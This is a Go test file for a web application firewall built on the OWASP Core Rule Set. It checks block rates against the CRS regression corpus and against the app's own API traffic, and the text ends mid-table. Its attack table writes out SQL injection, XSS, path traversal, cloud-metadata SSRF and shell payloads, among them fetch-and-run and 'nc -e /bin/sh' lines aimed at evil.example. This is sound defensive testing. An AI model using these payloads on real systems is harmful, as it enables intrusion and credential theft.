package crs

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp/syntax"
	"slices"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
	"github.com/corazawaf/coraza/v3"
	"github.com/corazawaf/coraza/v3/experimental"
	"github.com/corazawaf/coraza/v3/types"
	"go.yaml.in/yaml/v3"

	"github.com/shopmind/shopmind/internal/waf"
)

// The CRS regression corpus: the go-ftw YAML files that coraza-coreruleset v4 ships in its
// module (tests/<rule file>/<rule id>.yaml; they are not embedded in coreruleset.FS, so they
// are read from the module directory that `go list -m` names).

type ftwFile struct {
	RuleID int       `yaml:"rule_id"`
	Tests  []ftwTest `yaml:"tests"`
}

type ftwTest struct {
	TestID any        `yaml:"test_id"`
	Desc   string     `yaml:"desc"`
	Stages []ftwStage `yaml:"stages"`
}

type ftwStage struct {
	Input struct {
		Method         string            `yaml:"method"`
		URI            *string           `yaml:"uri"`
		Version        string            `yaml:"version"`
		Headers        map[string]string `yaml:"headers"`
		Data           string            `yaml:"data"`
		EncodedRequest string            `yaml:"encoded_request"`
		Autocomplete   *bool             `yaml:"autocomplete_headers"`
	} `yaml:"input"`
	Output struct {
		Log struct {
			ExpectIDs   []int `yaml:"expect_ids"`
			NoExpectIDs []int `yaml:"no_expect_ids"`
		} `yaml:"log"`
	} `yaml:"output"`
}

// wafClasses are the six attack classes of the issue, in report order.
var wafClasses = []string{"sqli", "xss", "path traversal", "command injection", "sensitive file", "ssrf / rfi"}

// wafClass maps a CRS rule id to its class ("" for rules outside the six classes).
// 930100/930110 are the traversal rules of the LFI file; the rest of it (OS files,
// restricted files, AI artifacts) and 932180 (restricted file upload names) are sensitive-file
// access; 931 (remote file inclusion: URLs and IPs in parameters) and the SSRF rules of 934
// (cloud metadata, internal hosts, IP URLs) are SSRF; the other 934 rules are language
// injections (Node.js, Ruby, Perl, PHP data:, SSTI) and not in the six classes.
func wafClass(id int) string {
	switch {
	case id == 930100 || id == 930110:
		return "path traversal"
	case id >= 930000 && id < 931000, id == 932180:
		return "sensitive file"
	case id >= 931000 && id < 932000, id == 934110, id == 934120, id == 934190:
		return "ssrf / rfi"
	case id >= 932000 && id < 933000:
		return "command injection"
	case id >= 941000 && id < 942000:
		return "xss"
	case id >= 942000 && id < 943000:
		return "sqli"
	}
	return ""
}

// crsRuleLevels returns the paranoia level of every CRS rule (from its paranoia-level/N tag).
func crsRuleLevels(t testing.TB) map[int]int {
	levels := map[int]int{}
	var mu sync.Mutex
	cfg := experimental.WAFConfigWithRuleObserver(coraza.NewWAFConfig().WithRootFS(coreruleset.FS).
		WithDirectives("Include @crs-setup.conf.example\nInclude @owasp_crs/*.conf"),
		func(r types.RuleMetadata) {
			for _, tag := range r.Tags() {
				if l, ok := strings.CutPrefix(tag, "paranoia-level/"); ok {
					n, _ := strconv.Atoi(l)
					mu.Lock()
					levels[r.ID()] = n
					mu.Unlock()
				}
			}
		})
	if _, err := coraza.NewWAF(cfg); err != nil {
		t.Fatal(err)
	}
	return levels
}

func crsTestsDir(t testing.TB) string {
	out, err := exec.Command("go", "list", "-m", "-f", "{{.Dir}}", "github.com/corazawaf/coraza-coreruleset/v4").Output()
	if err != nil {
		t.Fatalf("locating coraza-coreruleset: %v", err)
	}
	dir := filepath.Join(strings.TrimSpace(string(out)), "tests")
	if _, err := os.Stat(dir); err != nil {
		t.Fatalf("coraza-coreruleset ships no regression tests at %s: %v", dir, err)
	}
	return dir
}

type crsCase struct {
	name   string
	ruleID int
	class  string
	level  int
	attack bool // expects the rule to fire; otherwise a negative case
	raw    []byte
}

func loadCRSCases(t testing.TB) []crsCase { return loadCRSCasesOf(t, false) }

// loadCRSCasesOf loads the single-stage cases of the six classes' rules, or of every rule
// when all is set (class "other" for the rest).
func loadCRSCasesOf(t testing.TB, all bool) []crsCase {
	levels := crsRuleLevels(t)
	dir := crsTestsDir(t)
	var cases []crsCase
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(path, ".yaml") {
			return err
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		var f ftwFile
		if err := yaml.Unmarshal(data, &f); err != nil {
			return fmt.Errorf("%s: %w", path, err)
		}
		class := wafClass(f.RuleID)
		if class == "" {
			if !all {
				return nil
			}
			class = "other"
		}
		for _, tc := range f.Tests {
			if len(tc.Stages) != 1 { // multi-stage tests need state across requests
				continue
			}
			st := tc.Stages[0]
			raw := ftwRawRequest(st)
			if raw == nil {
				continue
			}
			c := crsCase{
				name: fmt.Sprintf("%d-%v", f.RuleID, tc.TestID), ruleID: f.RuleID, class: class,
				level: levels[f.RuleID], raw: raw,
			}
			switch {
			case slices.Contains(st.Output.Log.ExpectIDs, f.RuleID):
				c.attack = true
			case slices.Contains(st.Output.Log.NoExpectIDs, f.RuleID) && len(st.Output.Log.ExpectIDs) == 0:
			default:
				continue
			}
			cases = append(cases, c)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	sort.Slice(cases, func(i, j int) bool { return cases[i].name < cases[j].name })
	return cases
}

// ftwRawRequest builds the bytes go-ftw sends for a stage (request line, headers, and with
// autocomplete a Content-Length and Connection: close).
func ftwRawRequest(st ftwStage) []byte {
	in := st.Input
	if in.EncodedRequest != "" || in.URI == nil {
		return nil
	}
	method, version := in.Method, in.Version
	if method == "" {
		method = "GET"
	}
	if version == "" {
		version = "HTTP/1.1"
	}
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %s %s\r\n", method, *in.URI, version)
	keys := make([]string, 0, len(in.Headers))
	for k := range in.Headers {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	hasCL := false
	for _, k := range keys {
		if strings.EqualFold(k, "Content-Length") {
			hasCL = true
		}
		if strings.EqualFold(k, "Connection") {
			continue
		}
		fmt.Fprintf(&b, "%s: %s\r\n", k, in.Headers[k])
	}
	if in.Autocomplete == nil || *in.Autocomplete {
		if !hasCL && in.Data != "" {
			fmt.Fprintf(&b, "Content-Length: %d\r\n", len(in.Data))
		}
	}
	b.WriteString("Connection: close\r\n\r\n")
	b.WriteString(in.Data)
	return b.Bytes()
}

type crsOutcome int

const (
	outcomePassed   crsOutcome = iota // reached the handler
	outcomeBlocked                    // the WAF answered the 403 envelope
	outcomeRejected                   // net/http refused it before any handler (malformed request)
)

type crsResult struct {
	outcome crsOutcome
	matched []int // ids of the rules that matched
}

// runCRSCase parses the raw request as net/http's server does and serves it to h, classifying
// the answer. A request the server itself would refuse (malformed) is outcomeRejected.
func runCRSCase(h http.Handler, raw []byte) crsResult {
	r, err := http.ReadRequest(bufio.NewReader(bytes.NewReader(raw)))
	if err != nil || (r.ProtoAtLeast(1, 1) && r.Host == "" && len(r.Header["Host"]) == 0) {
		return crsResult{outcome: outcomeRejected}
	}
	r.RemoteAddr = "127.0.0.1:40000"
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, r)
	var res crsResult
	for _, id := range strings.Split(rec.Header().Get("X-Test-Matched"), ",") {
		if n, err := strconv.Atoi(id); err == nil {
			res.matched = append(res.matched, n)
		}
	}
	switch {
	case rec.Header().Get("X-Test-Handler") == "reached":
		res.outcome = outcomePassed
	case rec.Code == http.StatusForbidden && bytes.HasPrefix(rec.Body.Bytes(), []byte(`{"code":403,`)):
		res.outcome = outcomeBlocked
	default:
		res.outcome = outcomeRejected
	}
	return res
}

// runCRSCorpus runs every case whose rule is active at the level through a new WAF of the
// profile, returning the result of each case by name.
func runCRSCorpus(t *testing.T, cases []crsCase, level int, profile wafProfile) map[string]crsResult {
	cfg := waf.Config{Enabled: true, ParanoiaLevel: level, AnomalyThreshold: waf.DefaultAnomalyThreshold, BodyLimit: waf.DefaultBodyLimit}
	m, err := newWAF(cfg, profile, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	return runCRSCorpusOn(m, cases, level)
}

// runCRSCorpusOn runs the cases active at the level through m (built for that level).
func runCRSCorpusOn(m *WAF, cases []crsCase, level int) map[string]crsResult {
	h := wafHandler(m, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body)
		w.Header().Set("X-Test-Handler", "reached")
		_, _ = w.Write([]byte("ok"))
	}), func(w http.ResponseWriter, matched []int) {
		ids := make([]string, len(matched))
		for i, id := range matched {
			ids[i] = strconv.Itoa(id)
		}
		w.Header().Set("X-Test-Matched", strings.Join(ids, ","))
	})
	results := map[string]crsResult{}
	var mu sync.Mutex
	work := make(chan crsCase)
	var wg sync.WaitGroup
	for range 2 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for c := range work {
				res := runCRSCase(h, c.raw)
				mu.Lock()
				results[c.name] = res
				mu.Unlock()
			}
		}()
	}
	for _, c := range cases {
		if c.level >= 1 && c.level <= level {
			work <- c
		}
	}
	close(work)
	wg.Wait()
	return results
}

// classFigures are the corpus figures of one class at one paranoia level.
type classFigures struct {
	attacks, blocked int
	// negatives: cases that expect their rule to stay silent. ruleFired: the rule fired
	// anyway (a false positive of the rule). blockedBySibling: blocked by other rules, as the
	// stock CRS also blocks them (CRS negative cases are often attack payloads meant for a
	// sibling rule). falseBlocks: blocked by ShopMind's WAF but not by the stock CRS.
	negatives, ruleFired, blockedBySibling, falseBlocks int
	rejected                                            int
	missed, fired, falsely                              []string
}

func crsFigures(cases []crsCase, level int, ours, stock map[string]crsResult) map[string]*classFigures {
	figs := map[string]*classFigures{}
	for _, c := range wafClasses {
		figs[c] = &classFigures{}
	}
	for _, c := range cases {
		res, ok := ours[c.name]
		if !ok || c.level < 1 || c.level > level {
			continue
		}
		f := figs[c.class]
		if res.outcome == outcomeRejected {
			f.rejected++
			continue
		}
		if c.attack {
			f.attacks++
			if res.outcome == outcomeBlocked {
				f.blocked++
			} else {
				f.missed = append(f.missed, c.name)
			}
			continue
		}
		f.negatives++
		if slices.Contains(res.matched, c.ruleID) {
			f.ruleFired++
			f.fired = append(f.fired, c.name)
		}
		if res.outcome == outcomeBlocked {
			if stock[c.name].outcome == outcomeBlocked {
				f.blockedBySibling++
			} else {
				f.falseBlocks++
				f.falsely = append(f.falsely, fmt.Sprintf("%s%v", c.name, res.matched))
			}
		}
	}
	return figs
}

func TestWAFCRSRegressionCorpus(t *testing.T) {
	if testing.Short() {
		t.Skip("CRS corpus: long")
	}
	cases := loadCRSCases(t)
	if len(cases) == 0 {
		t.Fatal("no CRS regression cases found")
	}
	for _, level := range []int{1, 2} {
		ours := runCRSCorpus(t, cases, level, profileShopMind)
		stock := runCRSCorpus(t, cases, level, profileRecommended)
		figs := crsFigures(cases, level, ours, stock)
		stockFigs := crsFigures(cases, level, stock, stock)
		t.Logf("paranoia level %d", level)
		t.Logf("  %-18s %8s %8s %7s %7s | %9s %10s %8s %12s | %8s", "class", "attacks", "blocked", "rate", "stock", "negatives", "rule fired", "sibling", "false blocks", "rejected")
		for _, c := range wafClasses {
			f, sf := figs[c], stockFigs[c]
			rate := 100 * float64(f.blocked) / float64(max(f.attacks, 1))
			srate := 100 * float64(sf.blocked) / float64(max(sf.attacks, 1))
			t.Logf("  %-18s %8d %8d %6.1f%% %6.1f%% | %9d %10d %8d %12d | %8d", c, f.attacks, f.blocked, rate, srate,
				f.negatives, f.ruleFired, f.blockedBySibling, f.falseBlocks, f.rejected)
			if f.attacks == 0 {
				t.Errorf("PL%d %s: no attack cases", level, c)
			}
			if rate < 95 {
				t.Errorf("PL%d %s: %.1f%% of attack cases blocked, want >= 95%%; missed: %v", level, c, rate, f.missed)
			} else if len(f.missed) > 0 {
				t.Logf("    missed: %v", f.missed)
			}
			if f.ruleFired > 0 {
				t.Errorf("PL%d %s: %d negative cases fired their own rule: %v", level, c, f.ruleFired, f.fired)
			}
			if f.falseBlocks > 0 {
				t.Errorf("PL%d %s: %d negative cases blocked that the stock CRS lets through: %v", level, c, f.falseBlocks, f.falsely)
			}
		}
	}
}

// wafRequest is one request of the attack and legitimate tables.
type wafRequest struct {
	name    string
	method  string
	target  string
	body    string
	headers map[string]string
}

func (c wafRequest) build() *http.Request {
	method := c.method
	if method == "" {
		method = http.MethodGet
		if c.body != "" {
			method = http.MethodPost
		}
	}
	var body io.Reader = http.NoBody
	if c.body != "" {
		body = strings.NewReader(c.body)
	}
	r := httptest.NewRequest(method, c.target, body)
	r.RemoteAddr = "203.0.113.7:52114"
	r.Header.Set("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36")
	r.Header.Set("Accept", "application/json, text/plain, */*")
	r.Header.Set("Accept-Language", "zh-CN,zh;q=0.9,en;q=0.8")
	r.Header.Set("Authorization", wafBenchJWT)
	if c.body != "" {
		r.Header.Set("Content-Type", "application/json")
	}
	for k, v := range c.headers {
		r.Header.Set(k, v)
	}
	return r
}

func wafTestHandler(t testing.TB, level int) http.Handler {
	t.Helper()
	cfg := waf.Config{Enabled: true, ParanoiaLevel: level, AnomalyThreshold: waf.DefaultAnomalyThreshold, BodyLimit: waf.DefaultBodyLimit}
	m, err := New(cfg, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	return wafHandler(m, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		w.Header().Set("X-Test-Handler", "reached")
		w.Header().Set("X-Test-Body", strconv.Itoa(len(b)))
		_, _ = w.Write([]byte(`{"code":0,"message":"success","data":{}}`))
	}), nil)
}

// wafAttacks: each of the six classes in path, query, header and JSON body.
var wafAttacks = []wafRequest{
	// SQL injection
	{name: "sqli query", target: "/basic/api/v1/basic/goods?page_num=1&keyword=1%27%20OR%20%271%27%3D%271"},
	{name: "sqli query union", target: "/basic/api/v1/basic/orders?sort=id%20UNION%20SELECT%20password%20FROM%20users--"},
	{name: "sqli path", target: "/tenant/api/v1/tenant/roles/1%20OR%201=1;DROP%20TABLE%20users--", method: "DELETE"},
	{name: "sqli header", target: "/tenant/api/v1/tenant/auth/info", headers: map[string]string{"User-Agent": "' OR 1=1; DROP TABLE users; --"}},
	{name: "sqli json", target: "/tenant/api/v1/tenant/auth/login", body: `{"tenant_code":"demo","username":"admin' OR '1'='1' -- ","password":"x"}`},
	{name: "sqli json nested", target: "/api/v1/basic/goods/list", body: `{"page_num":1,"filter":{"name":"x' UNION SELECT username, password FROM users --"}}`},
	{name: "sqli json sleep", target: "/api/v1/basic/goods/get", body: `{"id":"1 AND SLEEP(5)"}`},
	// XSS
	{name: "xss query", target: "/analysis/api/v1/analytics/metrics?group_filter=%3Cscript%3Ealert(document.cookie)%3C/script%3E"},
	{name: "xss path", target: "/api/v1/sessions/%3Cimg%20src=x%20onerror=alert(1)%3E"},
	{name: "xss header", target: "/api/v1/sessions", headers: map[string]string{"Referer": "http://shop.example/<script>alert(1)</script>"}},
	{name: "xss json", target: "/api/v1/basic/goods", body: `{"name":"<script>alert('x')</script>","price":"9.90"}`},
	{name: "xss json handler", target: "/api/v2/chat/message", body: `{"message":"<svg onload=alert(1)>"}`},
	{name: "xss json javascript url", target: "/api/v1/data/crx/adhoc", body: `{"page_url":"javascript:alert(document.domain)","data":{}}`},
	// Path traversal
	{name: "traversal query", target: "/api/v1/data/crx/ver?current_version=../../../../etc/passwd"},
	{name: "traversal encoded query", target: "/basic/api/v1/basic/goods?file=..%2f..%2f..%2fetc%2fshadow"},
	{name: "traversal path", target: "/basic/api/v1/basic/..%2f..%2f..%2fetc/passwd"},
	{name: "traversal header", target: "/api/v1/sessions", headers: map[string]string{"X-File": "../../../../windows/win.ini"}},
	{name: "traversal json", target: "/api/v1/log/error", body: `{"level":"error","message":"x","url":"../../../../../etc/passwd"}`},
	// Command injection
	{name: "rce query", target: "/api/v1/sessions?user_id=1;cat%20/etc/passwd"},
	{name: "rce query subshell", target: "/api/v1/sessions?status=$(curl%20http://evil.example/x.sh|sh)"},
	{name: "rce header shellshock", target: "/api/v1/sessions", headers: map[string]string{"User-Agent": "() { :; }; /bin/bash -c 'cat /etc/passwd'"}},
	{name: "rce json", target: "/api/v1/nl2sql/setup-datasource", body: `{"host":"db.internal; rm -rf /","port":5432}`},
	{name: "rce json backticks", target: "/api/v2/chat/message", body: "{\"message\":\"`wget http://evil.example/x -O /tmp/x; sh /tmp/x`\"}"},
	{name: "rce json pipe", target: "/api/v1/basic/goods/update", body: `{"id":"1","name":"x | nc -e /bin/sh evil.example 4444"}`},
	// Sensitive files
	{name: "sensitive .env", target: "/.env"},
	{name: "sensitive .git", target: "/.git/config"},
	{name: "sensitive etc passwd query", target: "/api/v1/sessions?file=/etc/passwd"},
	{name: "sensitive path under api", target: "/basic/api/v1/basic/.htaccess"},
	{name: "sensitive json", target: "/api/v1/log/error", body: `{"level":"error","message":"read /etc/shadow"}`},
	{name: "sensitive cookie", target: "/api/v1/sessions", headers: map[string]string{"Cookie": "theme=/proc/self/environ"}},
	// SSRF
	{name: "ssrf query metadata", target: "/api/v1/sessions?callback=http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
	{name: "ssrf query ip url", target: "/api/v1/data/crx/ver?url=http://10.0.0.1/admin"},
	// (page_url is a URL the service stores and never fetches, TEXT_KIND_URL: the SSRF rules
	// leave it alone, TestWAFPassesIntranetURLs; any other field is still inspected.)
	{name: "ssrf json metadata", target: "/api/v1/data/crx/adhoc", body: `{"page_url":"https://x.cn","page_title":"http://169.254.169.254/latest/meta-data/","data":{}}`},
	{name: "ssrf json gcp", target: "/api/v1/nl2sql/setup-datasource", body: `{"host":"http://metadata.google.internal/computeMetadata/v1/","port":80}`},
	{name: "ssrf json file scheme", target: "/api/v1/log/error", body: `{"level":"error","message":"x","url":"file:///etc/passwd"}`},
	{name: "ssrf json localhost", target: "/api/v1/basic/goods/sync-from-platform", body: `{"callback_url":"http://127.0.0.1:2375/containers/json"}`},
}

func TestWAFBlocksAttacks(t *testing.T) {
	h := wafTestHandler(t, 1)
	for _, c := range wafAttacks {
		t.Run(c.name, func(t *testing.T) {
			rec := httptest.NewRecorder()
			h.ServeHTTP(rec, c.build())
			if rec.Code != http.StatusForbidden || rec.Header().Get("X-Test-Handler") != "" {
				t.Fatalf("not blocked: %d %s", rec.Code, rec.Body)
			}
			var env struct {
				Code    int             `json:"code"`
				Message string          `json:"message"`
				Data    json.RawMessage `json:"data"`
			}
			if err := json.Unmarshal(rec.Body.Bytes(), &env); err != nil || env.Code != 403 || string(env.Data) != "null" || env.Message == "" {
				t.Fatalf("not the 403 envelope: %s", rec.Body)
			}
			if ct := rec.Header().Get("Content-Type"); ct != "application/json" {
				t.Fatalf("content type %q", ct)
			}
		})
	}
}

// wafLegitimate is ShopMind's own API traffic: every endpoint family of the three spec
// documents with realistic values. None may be blocked, at paranoia level 1 or 2.
var wafLegitimate = []wafRequest{
	{name: "login", target: "/tenant/api/v1/tenant/auth/login", body: `{"tenant_code":"demo","username":"admin","password":"admin123","captcha_id":"c-8f14e45f","captcha_code":"a7k2"}`},
	{name: "login symbols password", target: "/api/v1/auth/login", body: `{"username":"zhang.wei@shop.cn","password":"P@ss'w0rd\"&<2026>!","captcha":""}`},
	{name: "refresh", target: "/tenant/api/v1/tenant/auth/refresh", body: `{"refresh_token":"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIiwidHlwIjoicmVmcmVzaCJ9.7dN9x0mYQe-2Q2mXl_3tYcBv1wA"}`},
	{name: "logout", target: "/tenant/api/v1/tenant/auth/logout", method: "POST", body: `{}`},
	{name: "info", target: "/tenant/api/v1/tenant/auth/info"},
	{name: "menus", target: "/tenant/api/v1/tenant/auth/menus"},
	{name: "captcha", target: "/tenant/api/v1/tenant/auth/captcha"},
	{name: "favorite set", target: "/tenant/api/v1/tenant/auth/favorite", body: `{"menu_ids":["12","15","31"],"note":"常用：销售看板 & 商品分析"}`},
	{name: "users page", target: "/tenant/api/v1/tenant/users?page_num=2&page_size=20&sort=created_at,desc"},
	{name: "users page limit", target: "/tenant/api/v1/tenant/users?page=1&limit=50"},
	{name: "orgs", target: "/tenant/api/v1/tenant/orgs?status=1&name=%E5%8D%8E%E4%B8%9C%E5%A4%A7%E5%8C%BA"},
	{name: "role create", target: "/tenant/api/v1/tenant/roles", body: `{"name":"运营主管","code":"ops_lead","description":"Can view & edit \"goods\" and orders; no delete.","menu_ids":[1,2,3,5,8]}`},
	{name: "role update", target: "/tenant/api/v1/tenant/roles/42", method: "PUT", body: `{"name":"Ops lead (East)","description":"Updated 2026-11-01T08:00:00Z","menu_ids":["1","2"]}`},
	{name: "role delete", target: "/tenant/api/v1/tenant/roles/42", method: "DELETE"},
	{name: "metrics list", target: "/analysis/api/v1/analytics/metrics?group_filter=%E9%94%80%E5%94%AE"},
	{name: "metric create formula", target: "/analysis/api/v1/analytics/metrics", body: `{"name":"avg_order_value","display_name":"客单价","description":"GMV divided by the number of orders (excluding refunds)","group":"sales","type":"formula","config":{"formula":{"expression":"gmv / order_count","dependency_ids":["3","7"]}}}`},
	{name: "metric create formula parens", target: "/analysis/api/v1/analytics/metrics", body: `{"name":"refund_rate","display_name":"Refund rate %","group":"after_sales","type":"formula","config":{"formula":{"expression":"(refund_amount * 100) / (gmv + 0.01)","dependency_ids":[4,3]}}}`},
	{name: "metric create derived", target: "/analysis/api/v1/analytics/metrics", body: `{"name":"gmv","display_name":"GMV","group":"sales","type":"derived","derived":{"source_field":"orders.pay_amount","aggregation":"sum","time_range_field":"orders.paid_at"},"synonyms":["成交额","gross merchandise value","sales"]}`},
	{name: "metric create order", target: "/analysis/api/v1/analytics/metrics", body: `{"name":"paid_orders","display_name":"Paid orders","group":"orders","type":"order","order":{"order_field":"id","time_basis":"paid_at","query_condition":[{"field":"status","operator":"in","value":["paid","shipped","delivered"]},{"field":"pay_amount","operator":"gt","value":0},{"field":"buyer_note","operator":"like","value":"%gift%"},{"field":"refund_id","operator":"is_null"}]}}`},
	{name: "metric update mask", target: "/analysis/api/v1/analytics/metrics/12", method: "PUT", body: `{"metric":{"display_name":"GMV (含税)","description":"Select the paid amount, from all orders where status is paid"},"update_mask":"displayName,description"}`},
	{name: "metric delete", target: "/analysis/api/v1/analytics/metrics/12", method: "DELETE"},
	{name: "anls preview", target: "/api/v1/anls/query/preview", body: `{"metric_ids":["3"],"dimensions":["shop","category"],"filters":[{"field":"shop_id","operator":"in","value":[1,2,3]}],"start_time":"2026-10-01T00:00:00+08:00","end_time":"2026-11-01T00:00:00+08:00","order_by":[{"field":"gmv","order":"desc"}],"limit":100}`},
	{name: "anls sql", target: "/api/v1/anls/query/sql", body: `{"question":"上个月各类目的销售额是多少","metric_ids":[3],"dimensions":["category"]}`},
	{name: "orders", target: "/basic/api/v1/basic/orders?page_num=1&page_size=20&sort=created_at,desc&start_time=2026-10-01T00:00:00Z&end_time=2026-10-31T23:59:59Z&status=paid"},
	{name: "goods search", target: "/basic/api/v1/basic/goods?page_num=1&page_size=100&keyword=T%E6%81%A4%20%26%20%E5%8D%AB%E8%A1%A3&sort=price,asc"},
	{name: "categories", target: "/basic/api/v1/basic/good-category?page_num=1&page_size=10"},
	{name: "goods list", target: "/api/v1/basic/goods/list", body: `{"page_num":1,"page_size":20,"sort":"updated_at,desc","keyword":"Men's \"Classic\" Tee & Shorts","shop_ids":[1,2],"is_virtual":false}`},
	{name: "goods create", target: "/api/v1/basic/goods", body: `{"goods":{"name":"Kid's \"Rainbow\" Raincoat & Boots (2-pack), 100% waterproof; sizes S/M/L","item_no":"RC-2026-001","shop_id":"3","category_id":"17","price":129.9,"image_url":"https://img.shop.cn/goods/rc-2026-001/main.jpg?x-oss-process=image/resize,w_800"}}`},
	{name: "goods delete", target: "/api/v1/basic/goods/delete", body: `{"ids":["101","102","103"]}`},
	{name: "goods batch", target: "/api/v1/basic/goods/batch", body: `{"ids":[101,102],"staff_id":"8","category_id":"17","tags":["new","summer-2026"]}`},
	{name: "goods set virtual", target: "/api/v1/basic/goods/set_virtual", body: `{"ids":["101"],"is_virtual":true}`},
	{name: "goods update", target: "/api/v1/basic/goods/update", body: `{"id":"101","name":"Tom & Jerry 联名款 T恤","price":"89.00","update_mask":"name,price"}`},
	{name: "goods display", target: "/api/v1/basic/goods/display", body: `{"shop_id":"3","page_num":1,"page_size":50}`},
	{name: "goods get", target: "/api/v1/basic/goods/get", body: `{"id":"101"}`},
	{name: "goods detail", target: "/api/v1/basic/goods/detail", body: `{"id":101}`},
	{name: "goods import", target: "/api/v1/basic/goods/import", body: `{"goods_id":"101","item_numbers":["A-1001","A-1002","B_2001"]}`},
	{name: "goods batch by shop", target: "/api/v1/basic/goods/batch-by-shop", body: `{"shop_id":"3","staff_id":"8","category_id":"17"}`},
	{name: "goods sync sku", target: "/api/v1/basic/goods/sync-sku-from-partner_a", body: `{"shop_id":"3","since":"2026-11-01T00:00:00Z"}`},
	{name: "goods sync platform", target: "/api/v1/basic/goods/sync-from-platform", body: `{"shop_id":"3","platform":"taobao"}`},
	{name: "link template create", target: "/api/v1/basic/goods/link-template/create", body: `{"name":"爆款链接分析","metrics":["gmv","visitors","conversion_rate"],"config":{"compare":"last_7_days","chart":"line"}}`},
	{name: "link template sort", target: "/api/v1/basic/goods/link-template/sort", body: `{"items":[{"id":"5","sort":1},{"id":"3","sort":2}]}`},
	{name: "link template update", target: "/api/v1/basic/goods/link-template/update", body: `{"id":"5","name":"Top links / week"}`},
	{name: "link template list", target: "/api/v1/basic/goods/link-template/list", body: `{"page_num":1,"page_size":10}`},
	{name: "notify list", target: "/notify/api/v1/notify/collect/list", body: `{"page_num":1,"page_size":10,"keyword":"库存预警","start_time":"2026-11-01T00:00:00Z","end_time":"2026-11-08T00:00:00Z"}`},
	{name: "chat v2 message", target: "/api/v2/chat/message", body: `{"message":"What was GMV by shop last 7 days?","conversation_id":"7b0d3c52-0a4f-4f5e-9d8e-2f1f3b9c1a77","current_user":{"user_id":"1","username":"admin","dept_id":"2"},"current_page_info":{"url":"https://app.shopmind.cn/analysis/dashboard?tab=sales&range=7d","title":"销售看板"},"stream":true}`, headers: map[string]string{"Accept": "text/event-stream"}},
	{name: "chat v2 chinese", target: "/api/v2/chat/message", body: `{"message":"上个月各类目的销售额是多少？按店铺拆分，并和去年同期对比 (YoY)。"}`, headers: map[string]string{"Accept": "text/event-stream"}},
	{name: "chat v2 select words", target: "/api/v2/chat/message", body: `{"message":"Select the top 10 goods from each shop where sales dropped, and order them by refund rate; union with last week's list?"}`},
	{name: "chat v2 quotes", target: "/api/v2/chat/message", body: `{"message":"Why did \"Kid's Raincoat\" sell 3x more on 11/11 vs. 10/10 -- was it the ad campaign & coupons?"}`},
	{name: "chat v1 message", target: "/api/v1/chat/messages", body: `{"conversation_id":"7b0d3c52-0a4f-4f5e-9d8e-2f1f3b9c1a77","message":"Compare conversion rate (visitors -> buyers) for Tmall vs JD in October."}`},
	{name: "chat workflow", target: "/api/v1/chat/workflows", body: `{"task":"Build a promotion plan for product 1001 based on last month's analysis","agents":["data_analyst","promotion_planner"]}`},
	{name: "session create", target: "/api/v1/sessions", body: `{"current_user":{"user_id":"1","username":"admin"}}`},
	{name: "session list", target: "/api/v1/sessions?user_id=1&limit=20&status=active"},
	{name: "session get", target: "/api/v1/sessions/7b0d3c52-0a4f-4f5e-9d8e-2f1f3b9c1a77"},
	{name: "session rename", target: "/api/v1/sessions/7b0d3c52-0a4f-4f5e-9d8e-2f1f3b9c1a77", method: "PUT", body: `{"title":"GMV 分析 (11/11)","favorite":true,"preferences":{"chart":"bar","currency":"CNY"}}`},
	{name: "session delete", target: "/api/v1/sessions/7b0d3c52-0a4f-4f5e-9d8e-2f1f3b9c1a77", method: "DELETE"},
	{name: "session history", target: "/api/v1/sessions/7b0d3c52-0a4f-4f5e-9d8e-2f1f3b9c1a77/messages?limit=50"},
	{name: "chat health", target: "/api/v1/health/health"},
	{name: "nl2sql token", target: "/api/v1/nl2sql/token", body: `{"shop_ids":["1","2","3"],"ttl_seconds":3600}`},
	{name: "nl2sql chat", target: "/api/v1/nl2sql/chat", body: `{"token":"tok_8f14e45fceea167a5a36dedd4bea2543","bot_id":"bot-sales-01"}`},
	{name: "nl2sql chat get", target: "/api/v1/nl2sql/chat/chat_01HF8X2K9Q"},
	{name: "nl2sql embed url", target: "/api/v1/nl2sql/embed-url", body: `{"shop_ids":["1","2"],"bot_id":"bot-sales-01"}`},
	{name: "nl2sql policy", target: "/api/v1/nl2sql/policy", body: `{"datasource_id":"ds_clickhouse_main","table_pattern":"^(basic_|diy_).*$","row_filter":{"column":"shop_id","operator":"in","variable":"shop_ids"},"role_id":"role_merchant","name":"merchant row filter"}`},
	{name: "nl2sql setup datasource", target: "/api/v1/nl2sql/setup-datasource", body: `{"host":"clickhouse.shopmind.internal","port":8123,"user":"nl2sql_ro","password":"r0-P@ss;word","database":"shopmind_olap","dialect":"clickhouse"}`},
	{name: "nl2sql health", target: "/api/v1/nl2sql/health"},
	{name: "crx config", target: "/api/v1/auth/config"},
	{name: "crx version", target: "/api/v1/data/crx/ver?current_version=1.4.2"},
